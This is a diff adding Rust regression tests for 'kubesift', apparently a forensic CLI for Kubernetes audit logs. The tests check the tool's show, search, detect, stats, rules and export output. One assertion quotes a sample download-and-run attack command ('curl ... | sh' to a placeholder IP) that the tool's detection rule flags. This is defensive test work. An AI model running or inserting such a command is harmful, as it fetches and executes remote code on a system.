@@ -1,0 +1,227 @@
+//! The headless twins as an analyst uses them (issue 11, "Headless twins"): `show` names the
+//! event's findings and takes an audit-ID prefix, `search`'s table carries audit IDs and
+//! keeps commands whole in a pipe, `detect`'s table is coloured on a terminal and carries
+//! counts and IDs, `stats` and `rules` carry SHA-256 and ATT&CK, the HTML export lists its
+//! inputs, and every error starts with `error:` (a missing required option: exit 2).
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use common::{ks, sample_index, stderr, stdout};
+
+/// The reverse-shell-style download-and-run exec of the sample attack.
+const DOWNLOAD_RUN: &str = "37416c1a-b02b-40ed-b881-3e72cd21229a";
+
+fn ok(args: &[&str]) -> String {
+    let out = ks(sample_index()).args(args).output().unwrap();
+    assert!(out.status.success(), "{args:?}: {}", stderr(&out));
+    stdout(&out)
+}
+
+fn failed(args: &[&str], code: i32) -> String {
+    let out = ks(sample_index()).args(args).output().unwrap();
+    assert_eq!(out.status.code(), Some(code), "{args:?}: {}", stderr(&out));
+    let err = stderr(&out);
+    assert!(err.starts_with("error:"), "{args:?}: {err}");
+    err
+}
+
+#[test]
+fn regression_show_did_not_list_the_findings_of_the_event() {
+    let text = ok(&["show", DOWNLOAD_RUN]);
+    let (head, _) = text.split_once("raw event:").unwrap();
+    let findings = head.split_once("findings:\n").expect(head).1;
+    assert!(
+        findings.lines().any(|l| l.contains("critical")
+            && l.contains("KS-EXEC-DOWNLOAD-RUN")
+            && l.contains("Download-and-run")),
+        "{findings}"
+    );
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(&["show", DOWNLOAD_RUN, "--format", "json"])).unwrap();
+    let rules: Vec<&str> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule_id"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains(&"KS-EXEC-DOWNLOAD-RUN"), "{rules:?}");
+}
+
+#[test]
+fn regression_show_refused_a_unique_audit_id_prefix() {
+    let text = ok(&["show", &DOWNLOAD_RUN[..8]]);
+    let line = text
+        .lines()
+        .find(|l| l.trim_start().starts_with("audit id"));
+    assert!(line.is_some_and(|l| l.ends_with(DOWNLOAD_RUN)), "{text}");
+}
+
+#[test]
+fn show_of_an_ambiguous_prefix_lists_the_candidates() {
+    // The sample's audit IDs are random UUIDs: thousands of them start with "3".
+    let err = failed(&["show", "3"], 1);
+    assert!(err.contains("ambiguous"), "{err}");
+    let listed: Vec<&str> = err.lines().skip(1).map(str::trim).collect();
+    assert!(listed.len() >= 2, "{err}");
+    assert!(listed.iter().all(|id| id.starts_with('3')), "{err}");
+}
+
+#[test]
+fn regression_show_of_an_unknown_id_did_not_start_with_error() {
+    let err = failed(&["show", "no-such-audit-id"], 1);
+    assert!(err.contains("no-such-audit-id"), "{err}");
+}
+
+#[test]
+fn regression_search_table_had_no_audit_id_and_cut_commands_in_a_pipe() {
+    // `assert_cmd` reads stdout through a pipe: the table must keep every cell whole.
+    let table = ok(&["search", "res:pods/exec", "--limit", "0"]);
+    let header = table.lines().next().unwrap();
+    assert!(header.ends_with("AUDIT_ID"), "{header}");
+    let row = table
+        .lines()
+        .find(|l| l.contains(DOWNLOAD_RUN))
+        .expect("the download-and-run exec is listed with its audit ID");
+    assert!(
+        row.contains("[sh -c 'curl -s http://203.0.113.50/x.sh | sh']"),
+        "{row}"
+    );
+    assert!(!table.contains('…'), "a cell was cut in a pipe:\n{table}");
+}
+
+/// The text without its SGR sequences (`\x1b[…m`).
+fn strip_sgr(s: &str) -> String {
+    let mut out = String::new();
+    let mut chars = s.chars();
+    while let Some(c) = chars.next() {
+        if c == '\x1b' {
+            chars.by_ref().find(|&c| c == 'm');
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+#[test]
+fn regression_detect_table_had_no_colour_on_a_terminal() {
+    // CLICOLOR_FORCE stands for a terminal here (stdout is a pipe under test).
+    let out = ks(sample_index())
+        .arg("detect")
+        .env("CLICOLOR_FORCE", "1")
+        .env_remove("NO_COLOR")
+        .output()
+        .unwrap();
+    let coloured = stdout(&out);
+    let critical = coloured.lines().find(|l| l.contains("critical")).unwrap();
+    assert!(
+        critical.starts_with("\x1b[1m\x1b[31mcritical\x1b[0m"),
+        "{critical:?}"
+    );
+    // Colour does not move the columns: the table lines up as the plain one does.
+    let plain = ok(&["detect"]);
+    assert_eq!(strip_sgr(&coloured), plain);
+    // NO_COLOR wins over everything; a pipe alone gets none.
+    let out = ks(sample_index())
+        .arg("detect")
+        .env("CLICOLOR_FORCE", "1")
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap();
+    assert!(!stdout(&out).contains('\x1b'));
+    assert!(!plain.contains('\x1b'));
+}
+
+#[test]
+fn regression_detect_table_had_no_audit_ids_nor_counts() {
+    let table = ok(&["detect"]);
+    let header = table.lines().next().unwrap();
+    assert!(
+        header.contains("COUNT") && header.contains("AUDIT_IDS"),
+        "{header}"
+    );
+    let row = table
+        .lines()
+        .find(|l| l.contains("KS-EXEC-DOWNLOAD-RUN"))
+        .unwrap();
+    assert!(row.contains(DOWNLOAD_RUN), "{row}");
+    let last = table.lines().last().unwrap();
+    assert!(
+        last.contains(" findings: ") && last.contains(" critical"),
+        "{last}"
+    );
+}
+
+#[test]
+fn regression_stats_table_had_no_sha256_of_its_inputs() {
+    let table = ok(&["stats"]);
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(&["stats", "--format", "json"])).unwrap();
+    let inputs = json["inputs"].as_array().unwrap();
+    assert!(!inputs.is_empty());
+    for input in inputs {
+        let sha = input["sha256"].as_str().unwrap();
+        assert_eq!(sha.len(), 64);
+        let line = table.lines().find(|l| l.contains(sha)).expect(sha);
+        assert!(line.ends_with(input["path"].as_str().unwrap()), "{line}");
+    }
+}
+
+#[test]
+fn regression_rules_table_had_no_attack_technique() {
+    let table = ok(&["rules"]);
+    assert!(table.lines().next().unwrap().contains("ATTACK"), "{table}");
+    let anon_write = table
+        .lines()
+        .find(|l| l.starts_with("KS-ANON-WRITE "))
+        .unwrap();
+    assert!(anon_write.contains(" T1190 "), "{anon_write}");
+}
+
+#[test]
+fn regression_html_export_did_not_list_its_inputs_with_sha256() {
+    let html = ok(&["export", "--query", "res:pods/exec", "--format", "html"]);
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(&["stats", "--format", "json"])).unwrap();
+    assert!(html.contains("<h2>Inputs</h2>"), "no inputs section");
+    for input in json["inputs"].as_array().unwrap() {
+        let sha = input["sha256"].as_str().unwrap();
+        assert!(html.contains(sha), "{sha} missing from the HTML export");
+    }
+}
+
+#[test]
+fn regression_export_without_a_format_was_not_a_usage_error() {
+    let err = failed(&["export"], 2);
+    assert!(err.contains("--format"), "{err}");
+    let err = failed(&["export", "-o", "timeline.txt"], 2);
+    assert!(err.contains("Usage: kubesift export"), "{err}");
+}
+
+#[test]
+fn regression_case_without_a_subcommand_printed_help_not_an_error() {
+    failed(&["case"], 2);
+}
+
+#[test]
+fn every_missing_required_argument_is_a_usage_error() {
+    for args in [
+        &["index"][..],
+        &["show"],
+        &["case", "add"],
+        &["case", "remove"],
+        &["case", "tag", "x"],
+        &["case", "note", "x"],
+        &["case", "title"],
+        &["case", "analyst"],
+        &["case", "save-filter", "name"],
+        &["search", "--since"],
+        &["detect", "--min-severity"],
+        &["export", "--query"],
+        &["rules", "--format"],
+        &["stats", "--top"],
+    ] {
+        failed(args, 2);
+    }
+}
